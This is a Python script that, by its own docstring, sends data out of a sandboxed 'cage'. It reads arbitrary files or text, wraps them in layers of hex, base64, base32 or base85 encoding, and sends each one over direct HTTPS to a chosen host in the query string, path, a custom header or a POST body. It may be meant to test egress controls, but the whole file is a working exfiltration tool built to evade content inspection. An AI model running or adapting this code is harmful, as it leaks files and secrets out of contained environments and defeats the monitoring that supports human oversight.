"""Data wrapped in layers of encoding, sent from inside a cage through one channel of an HTTP
request (`python3 -c SOURCE SPEC_JSON`; the cage's Python, standard library only).

SPEC: {"host", "channel": "query"|"path"|"header"|"body",
       "items": [{"marker", "file" or "text", optional "slice": [start, end],
                  "encode": layers applied left to right ("hex+base64": base64 of hex)}]}
Every item goes in its own HTTPS request (transparent: TLS straight to host:443) whose path
starts with /layered/<marker>. Prints {marker: status, or "error: ..."}.
"""

import base64
import binascii
import http.client
import json
import ssl
import sys
from urllib.parse import quote

ENCODERS = {
    "raw": lambda d: d,
    "base64": base64.b64encode,
    "base64url": base64.urlsafe_b64encode,
    "hex": binascii.hexlify,
    "base32": base64.b32encode,
    "base85": base64.b85encode,
    "ascii85": base64.a85encode,
}


def payload(item):
    if "file" in item:
        with open(item["file"], "rb") as f:
            data = f.read()
    else:
        data = item["text"].encode()
    if "slice" in item:
        data = data[item["slice"][0]:item["slice"][1]]
    for layer in item["encode"].split("+"):
        data = ENCODERS[layer](data)
    return data.decode("latin-1")


def send(spec, item, context):
    text = payload(item)
    base = f"/layered/{item['marker']}"
    headers, body, method, path = {}, None, "GET", base
    channel = spec["channel"]
    if channel == "query":
        path = f"{base}?d={quote(text, safe='')}"
    elif channel == "path":
        path = f"{base}/{quote(text, safe='')}"
    elif channel == "header":
        headers["X-Data"] = text
    else:
        method, body = "POST", json.dumps({"d": text}).encode()
        headers["Content-Type"] = "application/json"
    conn = http.client.HTTPSConnection(spec["host"], 443, context=context, timeout=30)
    try:
        conn.request(method, path, body=body, headers=headers)
        return conn.getresponse().status
    except Exception as e:
        return f"error: {type(e).__name__}: {e}"
    finally:
        conn.close()


def main():
    spec = json.loads(sys.argv[1])
    context = ssl.create_default_context()
    print(json.dumps({item["marker"]: send(spec, item, context) for item in spec["items"]}))


main()
